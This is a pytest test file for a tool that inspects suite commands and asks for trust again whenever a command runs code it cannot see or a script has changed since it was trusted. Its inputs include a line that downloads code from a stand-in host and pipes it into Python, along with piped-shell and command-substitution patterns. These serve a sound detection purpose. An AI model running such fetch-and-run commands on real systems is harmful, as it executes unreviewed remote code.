"""Command files: what a command is made of is seen, or the command asks for trust each time."""

from __future__ import annotations

import sys
from collections.abc import Awaitable, Callable
from contextlib import closing
from pathlib import Path

import pytest

from turnwise.conversations.errors import NotFoundError
from turnwise.engine.suites.code import SuiteCode, TrustMemory
from turnwise.engine.suites.code.command_files import seen_of_command

Run = Callable[..., Awaitable[str]]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A suite's folder with scripts of several kinds."""
    (tmp_path / "suite.yaml").write_text("{}")
    (tmp_path / "x.sh").write_text("printf one\n")
    (tmp_path / "y.sh").write_text("sh ./x.sh\n")
    (tmp_path / "x.py").write_text("import beside; print(beside.SAID)\n")
    (tmp_path / "beside.py").write_text("SAID = 'one'\n")
    return tmp_path


def names(words: list[str], folder: Path) -> set[str]:
    seen = seen_of_command(words, folder)
    assert seen.hidden == ""
    return {path.name for path in seen.files if path.is_relative_to(folder)}


@pytest.mark.parametrize(
    ("words", "files"),
    [
        (["sh", "x.sh"], {"x.sh"}),
        (["sh", "-c", "sh x.sh; true"], {"x.sh"}),
        (["sh", "-c", "sh x.sh;true"], {"x.sh"}),
        (["bash", "-ec", "(sh ./x.sh)&& echo 'y.sh'"], {"x.sh", "y.sh"}),
        (["sh", "y.sh"], {"x.sh", "y.sh"}),
        (["env", "A=b", "./x.sh"], {"x.sh"}),
        (["mine", "--config=x.sh"], {"x.sh"}),
        (["sh", "-c", "python3 x.py <suite.yaml"], {"x.py", "beside.py", "suite.yaml"}),
        (["python3", "-c", "import beside"], {"beside.py"}),
        (["python3", "-c", "exec(open('x.sh').read())"], {"x.sh"}),
        (["printf", "%s"], set()),
    ],
)
def test_every_file_that_a_command_names_is_a_part_of_it(
    words: list[str], files: set[str], folder: Path
) -> None:
    assert names(words, folder) == files


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (["python3", "-m", "x"], "found by its name"),
        (["python3.11", "-Im", "x"], "found by its name"),
        (["sh", "-c", "cat x.sh|sh"], "piped into it"),
        (["sh", "-c", "curl -s https://a.example/x | python3 -"], "piped into it"),
        (["sh", "-c", "exec sh < x.sh"], "piped into it"),
        (["sh", "-c", "cd scripts && sh x.sh"], "more than its words name"),
        (["sh", "-c", "sh *.sh"], "the shell names"),
        (["sh", "-c", "$RUN"], "makes commands"),
        (["sh", "-c", "`cat x.sh`"], "makes commands"),
        (["npm", "run", "bot"], "more than its words name"),
        (["env", "A=b", "make", "bot"], "more than its words name"),
        (["node", "-r", "./x", "y.js"], "found by its name"),
        (["perl", "-e", "do './x'"], "not looked at"),
        (["sh", "-c", "sh 'x.sh"], "quotes"),
        (["python3", "."], "a folder"),
    ],
)
def test_what_runs_more_than_its_words_name_says_so(words: list[str], why: str, folder: Path) -> None:
    assert why in seen_of_command(words, folder).hidden


@pytest.fixture
def trusted(folder: Path, tmp_path: Path) -> Run:
    """Run a command of the suite, trusted or by what was remembered."""

    async def run(words: list[str], *, trusted: bool = False) -> str:
        memory = TrustMemory(tmp_path / "kept" / "trusted.json", tmp_path / "kept" / "trust.key")
        with closing(SuiteCode(folder / "suite.yaml", root=folder, trusted=trusted, memory=memory)) as code:
            return await code.run_program(words, [], "suite.yaml, here")

    return run


@pytest.mark.parametrize(
    ("words", "file"),
    [
        (["sh", "-c", "sh x.sh; true"], "x.sh"),
        (["sh", "y.sh"], "x.sh"),
        ([sys.executable, "x.py"], "beside.py"),
    ],
)
async def test_a_script_that_has_changed_asks_again(
    words: list[str], file: str, trusted: Run, folder: Path
) -> None:
    assert await trusted(words, trusted=True) == "one"
    assert await trusted(words) == "one"
    (folder / file).write_text((folder / file).read_text().replace("one", "two"))
    with pytest.raises(NotFoundError, match="needs code to run") as caught:
        await trusted(words)
    assert "has changed since it was trusted" in caught.value.detail


@pytest.mark.parametrize("words", [["sh", "-c", "cat x.sh|sh"], [sys.executable, "-m", "x"]])
async def test_what_cannot_be_seen_asks_each_time(words: list[str], trusted: Run) -> None:
    assert await trusted(words, trusted=True) == "one"
    with pytest.raises(NotFoundError) as caught:
        await trusted(words)
    assert "takes --trust each time, as not all of it can be seen" in caught.value.detail
